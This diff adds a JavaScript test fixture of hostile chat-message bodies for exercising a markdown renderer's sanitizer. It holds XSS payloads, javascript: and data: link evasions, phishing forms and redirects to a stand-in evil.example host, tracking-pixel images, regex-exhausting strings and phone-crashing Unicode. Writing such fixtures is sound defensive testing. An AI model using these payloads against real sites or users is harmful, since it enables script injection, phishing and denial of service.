@@ -1,0 +1,121 @@
+/** As long as a message may be. */
+const runesMax = 4000;
+
+const fill = (piece, runes = runesMax) => piece.repeat(Math.floor(runes / [...piece].length));
+const mark = "window.pwned=1";
+
+/** What people send who mean harm: after OWASP's list of evasions, DOMPurify's tests and published faults of chats. */
+export const hostileBodies = [
+  // Markup that must stay words.
+  ["script", `<script>${mark}</script>`],
+  ["script in capitals", `<ScRiPt >${mark}</sCrIpT>`],
+  ["script without an end", `<script src=//evil.example/x.js`],
+  ["image with a handler", `<img src=x onerror=${mark}>`],
+  ["image with a broken tag", `<IMG """><SCRIPT>${mark}</SCRIPT>"\\>`],
+  ["svg", `<svg onload=${mark}><animate onbegin=${mark} attributeName=x dur=1s>`],
+  [
+    "mathml",
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
+  ],
+  ["mutating noscript", `<noscript><p title="</noscript><img src=x onerror=${mark}>">`],
+  ["iframe", `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`],
+  ["form", `<form action="https://evil.example"><button>Sign in again</button></form>`],
+  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`],
+  ["base", `<base href="https://evil.example/">`],
+  ["style", `<style>@import url(https://evil.example/x.css); * { display: none }</style>`],
+  ["template", "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} #{window.pwned=1}"],
+  ["details", `<details open ontoggle=${mark}><summary>x</summary></details>`],
+  ["html comment", `<!--><img src=x onerror=${mark}>-->`],
+  ["cdata", `<![CDATA[<script>${mark}</script>]]>`],
+
+  // Links that lead to scripts.
+  ["javascript link", `[click](javascript:${mark})`],
+  ["javascript link in capitals", `[click](JaVaScRiPt:${mark})`],
+  ["javascript link with a tab", `[click](java\tscript:${mark})`],
+  ["javascript link with a break", `[click](java\nscript:${mark})`],
+  [
+    "javascript link with entities",
+    `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${mark})`,
+  ],
+  ["javascript link with a tab's entity", `[click](java&Tab;script&colon;${mark})`],
+  ["javascript link with a null", `[click](java%00script:${mark})`],
+  ["javascript link in angles", `[click](<javascript:${mark}>)`],
+  ["javascript autolink", `<javascript:${mark}>`],
+  ["javascript by reference", `[click][1]\n\n[1]: javascript:${mark}`],
+  ["javascript under a harmless name", `[https://example.com](javascript:${mark} "title")`],
+  ["vbscript link", "[click](vbscript:msgbox(1))"],
+  ["data link", `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`],
+  [
+    "blob and file links",
+    "[a](blob:http://127.0.0.1/x) [b](file:///etc/passwd) [c](//evil.example) [d](ws://evil.example)",
+  ],
+  ["link that breaks out", `[x](https://example.com/"onmouseover="${mark})`],
+  ["link with quotes in its title", `[x](https://example.com 'y" onclick="${mark}')`],
+  ["look-alike host", "https://аррӏе.com https://example.com\u202e/moc.live@"],
+
+  // Pictures, which would tell another server who reads.
+  ["picture", "![cat](https://evil.example/cat.png)"],
+  ["picture in a link", "[![cat](https://evil.example/cat.png)](https://evil.example)"],
+  ["picture with a script", `![x](javascript:${mark}) ![y](data:image/svg+xml,<svg onload=${mark}>)`],
+  ["many pictures", fill("![](https://evil.example/a.png) ")],
+
+  // Depth.
+  ["quotes in quotes", `${fill(">", runesMax - 1)}x`],
+  ["quotes in quotes with spaces", `${fill("> ", runesMax - 1)}x`],
+  ["quotes, each deeper", Array.from({ length: 80 }, (_, depth) => `${">".repeat(depth)} x`).join("\n")],
+  ["lists in lists", `${fill("- ", runesMax - 1)}x`],
+  ["lists, each deeper", Array.from({ length: 60 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
+  ["numbered lists in lists", `${fill("1. ", runesMax - 1)}x`],
+  ["emphasis in emphasis", `${fill("*a **a ")}`],
+  ["stars", fill("*")],
+  ["stars and underscores", fill("*_")],
+  ["strikes", fill("~~a")],
+  ["brackets", fill("[")],
+  ["brackets closed", `${"[".repeat(2000)}${"]".repeat(2000)}`],
+  ["links in links", `${"[".repeat(999)}a${"](b)".repeat(750)}`],
+  ["pictures in pictures", fill("![[]()")],
+  ["parentheses in an address", `[a](${"(".repeat(3990)}`],
+  ["backticks", Array.from({ length: 85 }, (_, length) => "`".repeat(length + 1)).join(" ")],
+  ["backslashes", fill("\\")],
+  ["entities", fill("&amp;")],
+  ["angle brackets", fill("<")],
+  ["unended tags", fill("<a href=")],
+  ["unended comments", fill("<!--")],
+  ["table of many columns", `${"|a".repeat(650)}\n${"|-".repeat(650)}\n${"|b".repeat(650)}`],
+  ["table of many rows", `|a|b|\n|-|-|\n${fill("|a|b|\n", 3900)}`],
+  ["lines that could be headings", fill("a\n=\n")],
+  ["definitions", fill("[a]: b\n")],
+  ["rules", fill("---\n")],
+  ["code of many colours", `\`\`\`js\n${fill("a=`${b}`;/x/.test('y')\n", 3900)}\n\`\`\``],
+  ["code on one line", `\`\`\`ts\n${fill("(<", 3900)}\n\`\`\``],
+  ["code in a language that is none", `\`\`\`__proto__\n{}\n\`\`\`\n\`\`\`constructor\n{}\n\`\`\``],
+  ["code with spaces at its ends", `\`\`\`json\n${" ".repeat(3900)}x\n\`\`\``],
+
+  // What eats the time of patterns.
+  ["almost an address", `${fill("a.", 3998)}a`],
+  ["almost a mail address", `${"a".repeat(3990)}@`],
+  ["many ats", fill("@")],
+  ["many names", fill("@mina ")],
+  ["many rooms", fill("#design ")],
+  ["addresses in a row", fill("http://")],
+  ["address of many dots", `https://${fill("a.", 3900)}com`],
+  ["address of many brackets", `https://example.com/${"(".repeat(1900)}${")".repeat(1900)}`],
+  ["spaces before a break", `a${" ".repeat(3990)}\nb`],
+  ["breaks", `a${"\n".repeat(3990)}b`],
+  ["one word", "x".repeat(runesMax)],
+
+  // Letters.
+  ["emoji", fill("😀")],
+  ["family emoji", fill("👨‍👩‍👧‍👦")],
+  ["flags", fill("🇰🇷")],
+  ["emoji of skin tones", fill("👍🏽")],
+  ["joiners", fill("\u200d")],
+  ["marks upon marks", `Z${"\u0335\u0321\u0353".repeat(1300)}`],
+  ["right to left", "\u202efdp.exe\u202c \u2066\u2067\u2068 abc \u2069"],
+  ["right to left without an end", fill("\u202e\u2067a")],
+  ["arabic that once crashed phones", "لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗"],
+  ["telugu that once crashed phones", "జ్ఞ‌ా జ్ఞ‌ా"],
+  ["invisible", fill("\u200b\u2060\ufeff")],
+  ["private and unassigned", "\ue000\u{f0000}\u{10fffd}\u0378\ufffe"],
+  ["object keys", "__proto__ constructor toString hasOwnProperty @__proto__ #constructor :constructor:"],
+].map(([name, body]) => ({ name, body }));
